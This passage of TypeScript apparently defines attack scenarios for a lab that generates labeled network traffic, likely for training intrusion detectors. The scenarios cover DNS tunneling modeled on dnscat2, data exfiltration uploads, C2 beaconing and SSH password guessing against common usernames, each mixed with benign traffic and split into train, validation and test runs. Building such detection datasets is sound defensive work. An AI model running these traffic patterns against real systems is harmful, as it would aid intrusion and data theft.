    const actors = [actor];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'bruteforce', attackers: [HOSTS.atk!.ip], actors, params: { kind, tasks } };
  } },
  dns_tunnel: { runs: 9, build: (rng, f, v) => {
    const qtype = DNS_QTYPES[v % DNS_QTYPES.length]!;
    const params = { seed: rng.int(1e9), qtype, count: 80 + rng.int(200), gapMs: 5 + rng.int(40), labelLen: 30 + rng.int(34), labels: 1 + rng.int(3), perQuerySocket: rng.next() < 0.4, domain: pick(rng, ['t.lab-tunnel.example', 'x.cdn-sync.example', 'a.b']) };
    const actors = [client('dnstunnel', 'atk', params)];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'dns_tunnel', attackers: [HOSTS.atk!.ip], actors, params };
  } },
  exfil: { runs: 6, build: (rng, f, v) => {
    const https = v % 2 === 1;
    const params = { seed: rng.int(1e9), host: ext, https, count: 4 + rng.int(6), sizeMin: 30_000 + rng.int(100_000), sizeMax: 200_000 + rng.int(600_000), periodMs: 600 + rng.int(1500), jitter: 0.1 + 0.4 * rng.next() };
    const actors = [client('upload', 'atk', params)];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'exfil', attackers: [HOSTS.atk!.ip], actors, params };
  } },
  c2: { runs: 6, build: (rng, f, v) => {
    const mode = C2_MODES[v % C2_MODES.length]!;
    const params = { seed: rng.int(1e9), host: ext, mode, count: 10 + rng.int(16), periodMs: 200 + rng.int(500), jitter: 0.05 + 0.35 * rng.next(), sizeMin: 30 + rng.int(60), sizeMax: 120 + rng.int(300) };
    const actors = [client('beacon', 'atk', params)];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'c2', attackers: [HOSTS.atk!.ip], actors, params };
  } },
  ...NEW_SCENARIOS,
  dnsslow: { runs: 6, build: (rng, f) => {
    // dnscat2's shape: one query per socket about once a second, hex labels (session id, sequence, data) under the
    // tunnel's domain, MX / CNAME / TXT rotated; a few dozen queries, each flow a single query.
    const params = { seed: rng.int(1e9), hex: true, qtypes: [15, 5, 16], count: 15 + rng.int(21), gapMs: 400 + rng.int(900), jitter: 0.3, labelLen: 26 + rng.int(37), labels: 1 + rng.int(2), perQuerySocket: true, domain: pick(rng, ['t.lab-tunnel.example', 'x.cdn-sync.example', 'a.b']) };
    const actors = [client('dnstunnel', 'atk', params, 45_000)];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'dns_tunnel', attackers: [HOSTS.atk!.ip], actors, params };
  } },
  sshguess: { runs: 6, build: (rng, f) => {
    // Slow password guessing, one connection per guess (1–3 prompts each), a pause between: what a careful guesser
    // or a bot that rotates targets does, unlike hydra's parallel sessions.
    const n = 8 + rng.int(7), prompts = 1 + rng.int(3);
    const guess = `${wrongPasswordLogin(f, pick(rng, ['root', 'admin', 'pi', 'ubuntu']), prompts)} < /dev/null`;
    const steps: string[] = [];
    for (let i = 0; i < n; i++) steps.push(guess, `sleep ${(0.5 + 2.5 * rng.next()).toFixed(1)}`);
    const actors: Actor[] = [{ host: 'atk', cmd: 'sh', args: ['-c', steps.join('; ')], timeoutMs: 60_000 }];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'bruteforce', attackers: [HOSTS.atk!.ip], actors, params: { guesses: n, prompts } };
  } },
};

/** All runs of the lab, in a fixed order; `split` is assigned per run (never per flow). */
export function planRuns(baseSeed: number, files: LabFiles, runsScale = 1): (RunSpec & { split: 'train' | 'val' | 'test' })[] {
  const out: (RunSpec & { split: 'train' | 'val' | 'test' })[] = [];
  for (const [scenario, def] of Object.entries(SCENARIOS)) {
    const runs = Math.max(1, Math.round(def.runs * runsScale));
    for (let v = 0; v < runs; v++) {
      const seed = (baseSeed * 1_000_003 + v * 7919 + scenario.length * 104_729) >>> 0;
      const rng = createRng(seed);
      const spec = def.build(rng, files, v);
      // Every third run goes to test or validation, alternating, so both see several variants.
      const split = runs >= 3 && v % 3 === 2 ? (Math.floor(v / 3) % 2 === 0 ? 'test' : 'val') : runs >= 3 && v === runs - 1 ? 'val' : 'train';
      out.push({ ...spec, id: `${scenario}-${String(v).padStart(2, '0')}`, scenario, seed, split });
    }
  }
  return out;
}

